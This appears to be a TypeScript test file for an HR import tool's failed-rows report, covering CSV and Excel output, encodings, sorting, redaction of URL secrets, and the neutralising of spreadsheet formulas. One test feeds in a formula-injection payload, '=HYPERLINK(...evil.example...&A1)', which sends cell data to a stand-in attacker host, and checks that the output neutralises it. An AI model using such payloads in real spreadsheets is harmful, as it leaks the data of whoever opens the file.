import { readFile, readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import type { RowLine } from '../../src/ledger/lines.js';
import { FailedRowsReport } from '../../src/report/failed/failed-rows.js';
import { neutralise } from '../../src/report/failed/cells.js';
import { tempDir } from '../support/cli.js';

// The failed-rows file HR opens in a spreadsheet: their own columns first, then what went wrong.

const HEADERS = ['Employee ID', 'Name', 'photo'];

function failed(row: number, code: string, fields: Record<string, string> | undefined, message = `${code} message`) {
  const line: RowLine = { type: 'row', ts: '', run: 'r', row, user: fields?.['Employee ID'] ?? '', target: 'dir:/x', source: '', settings: 's', status: 'failed', error: { code, message } };
  return { line, ...(fields ? { fields } : {}) };
}
const ok = (row: number) => ({ line: { type: 'row', ts: '', run: 'r', row, user: `u${row}`, target: 'dir:/x', source: '', settings: 's', status: 'ok' } as RowLine });
const person = (id: string, name: string, photo = `photos/${id}.jpg`) => ({ 'Employee ID': id, Name: name, photo });

const records = (text: string, delimiter = ','): string[][] => parse(text, { delimiter, bom: true, relax_column_count: false });

describe('failed-rows CSV', () => {
  test("the CSV's own columns, then row, status, code, message and a hint; sorted by row; UTF-8 with a BOM", async () => {
    const dir = await tempDir();
    const file = join(dir, 'failed.csv');
    const report = new FailedRowsReport({ file, headers: HEADERS, delimiter: ',', encoding: 'utf8', imageColumn: 'photo' });
    await report.row(failed(7, 'unsupported_image', person('E7', 'Zoë Ünal', 'photos/z.heic')));
    await report.row(ok(1));
    await report.row(failed(3, 'file_not_found', person('E3', 'Smith, Ana', 'photos/IMG_4021.jpg'), 'looked for /srv/hr/photos/IMG_4021.jpg'));
    await report.row(failed(5, 'malformed_record', undefined, 'line 6: expected 3 fields as in the header, found 4'));
    expect(await report.close()).toBe(3);

    const bytes = await readFile(file);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8');
    expect(text.split('\r\n')).toHaveLength(5); // CRLF, as spreadsheets write it
    expect(records(text)).toEqual([
      ['Employee ID', 'Name', 'photo', 'row', 'status', 'code', 'message', 'hint'],
      ['E3', 'Smith, Ana', 'photos/IMG_4021.jpg', '3', 'failed', 'file_not_found', 'looked for /srv/hr/photos/IMG_4021.jpg', 'the photo file is missing: add photos/IMG_4021.jpg or fix the path'],
      ['', '', '', '5', 'failed', 'malformed_record', 'line 6: expected 3 fields as in the header, found 4', expect.stringContaining('as many fields as the header')],
      ['E7', 'Zoë Ünal', 'photos/z.heic', '7', 'failed', 'unsupported_image', 'unsupported_image message', expect.stringContaining('export it as JPEG or PNG')],
    ]);
  });

  test("a photo URL's credentials and signature never reach the file, and a huge cell is capped", async () => {
    const dir = await tempDir();
    const file = join(dir, 'failed.csv');
    const report = new FailedRowsReport({ file, headers: HEADERS, delimiter: ',', encoding: 'utf8', imageColumn: 'photo' });
    await report.row(failed(2, 'url_not_allowed', person('E2', 'Ana', 'http://ana:S3cretPw@hr.example/photo/2?sig=abcdef123456')));
    await report.row(failed(3, 'image_too_small', person('E3', 'x'.repeat(100_000))));
    await report.close();
    const text = await readFile(file, 'utf8');
    expect(text).not.toContain('S3cretPw');
    expect(text).not.toContain('abcdef123456');
    expect(text).toContain('http://hr.example/photo/2?…');
    expect(text.length).toBeLessThan(5_000);
  });

  test("the input's delimiter and encoding: semicolons in UTF-16LE stay semicolons in UTF-16LE", async () => {
    const dir = await tempDir();
    const file = join(dir, 'failed.csv');
    const report = new FailedRowsReport({ file, headers: HEADERS, delimiter: ';', encoding: 'utf16le', imageColumn: 'photo' });
    await report.row(failed(2, 'image_too_small', person('E2', 'Søren Ørsted; Jr')));
    await report.close();
    const bytes = await readFile(file);
    expect([...bytes.subarray(0, 2)]).toEqual([0xff, 0xfe]);
    expect(records(iconv.decode(bytes, 'utf16le'), ';')).toEqual([
      ['Employee ID', 'Name', 'photo', 'row', 'status', 'code', 'message', 'hint'],
      ['E2', 'Søren Ørsted; Jr', 'photos/E2.jpg', '2', 'failed', 'image_too_small', 'image_too_small message', expect.stringContaining('too small')],
    ]);
  });

  test('Windows-1252 in, Windows-1252 out (no BOM: that code page has none)', async () => {
    const dir = await tempDir();
    const file = join(dir, 'failed.csv');
    const report = new FailedRowsReport({ file, headers: HEADERS, delimiter: ',', encoding: 'windows1252' });
    await report.row(failed(1, 'file_not_found', person('E1', 'Anna Müller')));
    await report.close();
    const bytes = await readFile(file);
    expect(bytes[0]).toBe('E'.charCodeAt(0));
    expect(bytes.includes(Buffer.from([0xfc]))).toBe(true); // ü
    expect(records(iconv.decode(bytes, 'windows1252'))[1]!.slice(0, 2)).toEqual(['E1', 'Anna Müller']);
  });

  test('cells that a spreadsheet would run as a formula are neutralised, whichever column they are in', async () => {
    expect(['=1+1', '+1', '-2', '@SUM(A1)', '\tx', '\rx', 'ok', '', 'a=b'].map(neutralise)).toEqual(["'=1+1", "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\rx", 'ok', '', 'a=b']);
    const dir = await tempDir();
    const file = join(dir, 'failed.csv');
    const report = new FailedRowsReport({ file, headers: HEADERS, delimiter: ',', encoding: 'utf8' });
    await report.row(failed(4, 'user_not_found', person('=HYPERLINK("http://evil.example/?"&A1)', '@cmd'), '-x not found'));
    await report.close();
    const [, row] = records(await readFile(file, 'utf8'));
    // (The URL's query is also cut to `?…`: report cells never carry a URL's secrets.)
    expect(row!.slice(0, 2)).toEqual(['\'=HYPERLINK("http://evil.example/?…"&A1)', "'@cmd"]);
    expect(row![6]).toBe("'-x not found");
  });

  test('no failures: the header alone', async () => {
    const dir = await tempDir();
    const file = join(dir, 'failed.csv');
    const report = new FailedRowsReport({ file, headers: HEADERS, delimiter: ',', encoding: 'utf8' });
    await report.row(ok(1));
    expect(await report.close()).toBe(0);
    expect(records(await readFile(file, 'utf8'))).toEqual([['Employee ID', 'Name', 'photo', 'row', 'status', 'code', 'message', 'hint']]);
    expect(await readdir(dir)).toEqual(['failed.csv']); // no temporary file left behind
  });

  test('a CSV with its own "status" column keeps it; ours is told apart', async () => {
    const dir = await tempDir();
    const file = join(dir, 'failed.csv');
    const report = new FailedRowsReport({ file, headers: ['id', 'Status', 'photo'], delimiter: ',', encoding: 'utf8' });
    await report.close();
    expect(records(await readFile(file, 'utf8'))[0]).toEqual(['id', 'Status', 'photo', 'row', 'import_status', 'code', 'message', 'hint']);
  });

  test('many failures arriving out of order come out sorted, spilled through temporary files', async () => {
    const dir = await tempDir();
    const file = join(dir, 'failed.csv');
    const report = new FailedRowsReport({ file, headers: HEADERS, delimiter: ',', encoding: 'utf8', chunkRows: 7 });
    const rows = Array.from({ length: 100 }, (_, i) => ((i * 37) % 100) + 1);
    for (const row of rows) await report.row(failed(row, 'file_not_found', person(`E${row}`, `P${row}`)));
    expect(await report.close()).toBe(100);
    const out = records(await readFile(file, 'utf8')).slice(1);
    expect(out.map((r) => Number(r[3]))).toEqual(Array.from({ length: 100 }, (_, i) => i + 1));
    expect(out.every((r) => r[0] === `E${r[3]}`)).toBe(true);
  });
});

describe('failed-rows workbook', () => {
  test('FILE.xlsx is a workbook: header, then the failed rows by row, read back with exceljs', async () => {
    const dir = await tempDir();
    const file = join(dir, 'failed.xlsx');
    const report = new FailedRowsReport({ file, headers: HEADERS, delimiter: ';', encoding: 'utf8', imageColumn: 'photo' });
    await report.row(failed(9, 'user_not_found', person('E9', '=cmd')));
    await report.row(failed(2, 'file_not_found', person('E2', 'Zoë')));
    await report.close();

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(file);
    const sheet = workbook.getWorksheet('Failed rows')!;
    const values = (n: number) => (sheet.getRow(n).values as unknown[]).slice(1);
    expect(values(1)).toEqual(['Employee ID', 'Name', 'photo', 'row', 'status', 'code', 'message', 'hint']);
    expect(values(2).slice(0, 6)).toEqual(['E2', 'Zoë', 'photos/E2.jpg', 2, 'failed', 'file_not_found']);
    // A typed string cell, never a formula: kept exactly as HR wrote it.
    expect(values(3).slice(0, 4)).toEqual(['E9', '=cmd', 'photos/E9.jpg', 9]);
    expect(sheet.getRow(3).getCell(2).type).toBe(ExcelJS.ValueType.String);
    expect(sheet.rowCount).toBe(3);
  });
});
